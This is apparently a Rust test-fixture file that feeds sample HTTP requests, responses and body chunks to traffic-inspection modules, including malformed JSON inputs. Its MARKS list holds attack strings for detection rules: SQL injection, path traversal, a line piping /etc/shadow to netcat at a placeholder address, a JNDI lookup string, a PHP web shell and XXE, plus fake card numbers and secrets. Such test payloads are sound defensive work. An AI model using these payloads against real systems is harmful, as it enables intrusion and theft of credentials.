//! The events every module is called with: ordinary traffic, the attacks that
//! rules are written against, and a little of what nobody planned for.
//!
//! Names of headers are in lower case, as proxies send them. Every event has a
//! correlation id of its own, so a module that ties events together by it sees
//! each as an exchange of its own.

use std::borrow::Cow;
use std::sync::Arc;

use serde::Deserialize;

use crate::abi::Abi;
use crate::event::{BodyChunk, Event, EventKind, Headers, RequestHead, ResponseHead};
use crate::guest::module::Module;
use crate::policy::bodies::chunk_of;
use crate::question::Question;

use super::calls::Sample;
use super::hooks;

/// Requests and responses, from a file.
#[derive(Default, Deserialize)]
struct Samples<'a> {
    #[serde(borrow)]
    requests: Vec<RequestSample<'a>>,
    #[serde(borrow)]
    responses: Vec<ResponseSample<'a>>,
}

#[derive(Deserialize)]
struct RequestSample<'a> {
    name: &'a str,
    method: String,
    uri: String,
    #[serde(borrow)]
    headers: Vec<(&'a str, &'a str)>,
}

#[derive(Deserialize)]
struct ResponseSample<'a> {
    name: &'a str,
    status: u16,
    #[serde(borrow)]
    headers: Vec<(&'a str, &'a str)>,
}

/// A test holds the file to be read whole.
fn samples() -> Samples<'static> {
    serde_json::from_str(include_str!("samples.json")).unwrap_or_default()
}

/// Name, bytes, whether it is the last chunk.
const BODIES: &[(&str, &[u8], bool)] = &[
    ("text", b"hello, world", true),
    ("form", b"user=ann&password=secret&q=a+b", true),
    (
        "form-injection",
        b"user=admin%27--&id=1+UNION+SELECT+1,2",
        true,
    ),
    (
        "json",
        br#"{"card":"4111 1111 1111 1111","name":"<script>alert(1)</script>"}"#,
        true,
    ),
    ("first-chunk", b"the first half of ", false),
    ("not-utf8", b"\x89PNG\r\n\x1a\n\x00\xff\xfe", true),
    ("empty", b"", true),
];

/// Whole bodies that rules are written against, each with one mark. The last is JSON.
const MARKS: &[&str] = &[
    "<script>alert(1)</script>",
    "1' OR '1'='1' UNION SELECT password FROM users--",
    "1; DROP TABLE users",
    "../../../../etc/passwd",
    "; cat /etc/shadow | nc 192.0.2.9 4444",
    "cmd.exe /c powershell",
    "${jndi:ldap://192.0.2.9/a}",
    "<?php system($_GET['c']); eval($c); ?>",
    "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/hosts\">]>",
    "<iframe src=javascript:alert(1) onerror=alert(1)>",
    "4111 1111 1111 1111",
    "4111-1111-1111-1111",
    "4111111111111111",
    "123-45-6789",
    "ann@example.com",
    "BEGIN PRIVATE KEY",
    "password=hunter2",
    "secret",
    "token",
    "attack",
    "evil",
    "exploit",
    "malicious",
    "malware",
    "virus",
    "forbidden",
    "blocked",
    "bad",
    "{\"name\":\"<script>\",\"role\":\"admin\"}",
];

/// Broken input that is JSON all the same.
pub(super) const LONE_SURROGATE: &str = "lone-surrogate";

/// What the handlers of this module are called with.
pub(in crate::ops) fn all(module: &Module) -> Vec<Sample> {
    if module.abi == Abi::Hook {
        let samples = hooks::samples();
        return samples
            .filter(|sample| module.has_handler(sample.handler()))
            .collect();
    }
    let events = requests()
        .chain(bodies(EventKind::RequestBody))
        .chain(responses())
        .chain(bodies(EventKind::ResponseBody));
    events
        .filter(|sample| module.has_handler(sample.handler()))
        .collect()
}

/// Input that is no event; the agent never writes it. It makes a guest fail
/// without a trap, and nobody may notice afterwards.
pub(super) fn broken(module: &Module) -> Vec<Sample> {
    let surrogate: &'static [u8] = if module.abi == Abi::Hook {
        hooks::LONE_SURROGATE
    } else {
        br#"{"method":"GET","uri":"/\ud800","client_ip":"","status":200,"correlation_id":"\udfff","headers":{"x":"\ud800"},"chunk_index":0,"is_last":true,"data":"\ud800","encoding":"utf8"}"#
    };
    let inputs: [(&'static str, &'static [u8]); 4] = [
        ("empty-input", b""),
        ("not-json", b"\x00\xff not json"),
        ("cut-off", br#"{"method":"GET","uri":"/"#),
        (LONE_SURROGATE, surrogate),
    ];
    module
        .phases()
        .flat_map(|phase| {
            inputs.map(|(name, bytes)| Sample {
                name,
                input: Question::Exact {
                    phase,
                    chunk_index: Some(0),
                    json: Cow::Borrowed(bytes),
                },
            })
        })
        .collect()
}

/// The requests among them.
pub(in crate::ops) fn requests() -> impl Iterator<Item = Sample> {
    (1..).zip(samples().requests).map(|(n, sample)| {
        let head = RequestHead {
            correlation_id: format!("request-{n}"),
            method: sample.method,
            uri: sample.uri,
            client_ip: "192.0.2.7".to_owned(),
            headers: sample.headers.into_iter().collect(),
        };
        event(sample.name, Event::RequestHeaders(head))
    })
}

fn responses() -> impl Iterator<Item = Sample> {
    (1..).zip(samples().responses).map(|(n, sample)| {
        let head = ResponseHead {
            correlation_id: format!("response-{n}"),
            status: sample.status,
            headers: sample.headers.into_iter().collect(),
        };
        event(sample.name, Event::ResponseHeaders(head))
    })
}

/// A sample of an event.
pub(super) fn event(name: &'static str, event: Event) -> Sample {
    Sample {
        name,
        input: Question::from(event),
    }
}

fn bodies(kind: EventKind) -> impl Iterator<Item = Sample> {
    (1..).zip(BODIES).map(move |(n, (name, data, is_last))| {
        let mut sample = body(kind, n, (name, data));
        if let Some(chunk) = chunk_in(&mut sample) {
            chunk.is_last = *is_last;
            chunk.total_size = chunk.total_size.filter(|_| *is_last);
        }
        sample
    })
}

/// Bodies in one piece, to be cut.
pub(super) fn whole_bodies(kind: EventKind) -> impl Iterator<Item = Sample> {
    let whole = BODIES.iter().filter(|(.., is_last)| *is_last);
    let whole = whole.map(|(name, data, _)| (*name, *data));
    let marks = MARKS.iter().map(|mark| (*mark, mark.as_bytes()));
    (1..)
        .zip(whole.chain(marks))
        .map(move |(n, named)| body(kind, n, named))
}

/// An exchange whose body ends in its second chunk: its head, and both.
pub(super) fn in_two_chunks(kind: EventKind) -> Vec<Sample> {
    const DATA: &[u8] = &[b'a'; 1200];
    let body = body(kind, 1, ("two-chunks", DATA));
    let head = body.input.event().and_then(head_of);
    let head = head.map(|head| event("head", head));
    let chunks = cut(&body, &[DATA.len() / 2]);
    head.into_iter().chain(chunks).collect()
}

/// The head that was sent before a chunk.
fn head_of(body: &Event) -> Option<Event> {
    match body {
        Event::RequestBody { request, .. } => {
            let head = request.as_deref()?;
            Some(Event::RequestHeaders(head.clone()))
        }
        Event::ResponseBody { response, .. } => {
            let head = response.as_deref()?;
            Some(Event::ResponseHeaders(head.clone()))
        }
        Event::RequestHeaders(_) | Event::ResponseHeaders(_) => None,
    }
}

/// A body cut at these places, which ascend.
pub(super) fn cut(body: &Sample, places: &[usize]) -> Vec<Sample> {
    let size = data(body).len();
    let ends = places.iter().copied().chain([size]);
    let mut start = 0;
    (0..)
        .zip(ends)
        .map(|(index, end)| {
            let mut part = body.clone();
            if let Some(chunk) = chunk_in(&mut part) {
                chunk.data = data(body)[start..end].to_vec();
                chunk.chunk_index = index;
                chunk.is_last = end == size;
                chunk.transferred_bytes = end as u64;
            }
            start = end;
            part
        })
        .collect()
}

/// The bytes of a body or chunk.
pub(super) fn data(sample: &Sample) -> &[u8] {
    chunk(sample).map_or(&[], |chunk| &chunk.data)
}

/// Whether it is a part of a body of which more is to come.
pub(super) fn is_partial(sample: &Sample) -> bool {
    chunk(sample).is_some_and(|chunk| !chunk.is_last)
}

fn chunk(sample: &Sample) -> Option<&BodyChunk> {
    match sample.input.event()? {
        Event::RequestBody { chunk, .. } | Event::ResponseBody { chunk, .. } => Some(chunk),
        Event::RequestHeaders(_) | Event::ResponseHeaders(_) => None,
    }
}

/// The chunk, to be changed.
pub(super) fn chunk_in(sample: &mut Sample) -> Option<&mut BodyChunk> {
    match &mut sample.input {
        Question::Event(event) => chunk_of(event.to_mut()),
        Question::Hook(..) | Question::Exact { .. } => None,
    }
}

/// The same event of an exchange with this correlation id.
pub(super) fn of_exchange(sample: &Sample, id: &str) -> Sample {
    let mut sample = sample.clone();
    if let Question::Event(event) = &mut sample.input {
        let own = match event.to_mut() {
            Event::RequestHeaders(head) => &mut head.correlation_id,
            Event::ResponseHeaders(head) => &mut head.correlation_id,
            Event::RequestBody { chunk, .. } | Event::ResponseBody { chunk, .. } => {
                &mut chunk.correlation_id
            }
        };
        id.clone_into(own);
    }
    sample
}

/// The same event of another exchange, whose id is as long.
pub(super) fn of_another(sample: &Sample) -> Sample {
    let own = sample.input.event().map_or("", Event::correlation_id);
    let id: String = own.chars().rev().collect();
    of_exchange(sample, &id)
}

fn body(kind: EventKind, number: usize, (name, data): (&'static str, &[u8])) -> Sample {
    let chunk = BodyChunk {
        correlation_id: format!("{}-{number}", kind.name()),
        is_last: true,
        total_size: Some(data.len() as u64),
        transferred_bytes: data.len() as u64,
        data: data.to_vec(),
        ..BodyChunk::default()
    };
    let content_type = if name.starts_with("form") {
        "application/x-www-form-urlencoded"
    } else if name.starts_with('{') {
        "application/json"
    } else {
        "text/plain"
    };
    // This one comes without its head, as from a proxy that lost it.
    let is_known = name != "empty";
    let fields = Headers::from([("content-type", content_type), ("x-trace", "1")]);
    let request = is_known.then(|| {
        Arc::new(RequestHead {
            correlation_id: chunk.correlation_id.clone(),
            method: "POST".to_owned(),
            uri: "/upload".to_owned(),
            client_ip: "192.0.2.7".to_owned(),
            headers: fields.clone(),
        })
    });
    let body = if kind == EventKind::RequestBody {
        Event::RequestBody { chunk, request }
    } else {
        let response = is_known.then(|| {
            Arc::new(ResponseHead {
                correlation_id: chunk.correlation_id.clone(),
                status: 200,
                headers: fields.clone(),
            })
        });
        Event::ResponseBody {
            chunk,
            request,
            response,
        }
    };
    event(name, body)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_file_of_samples_is_read_whole() {
        assert_eq!(requests().count(), 14);
        assert_eq!(responses().count(), 5);
    }
}
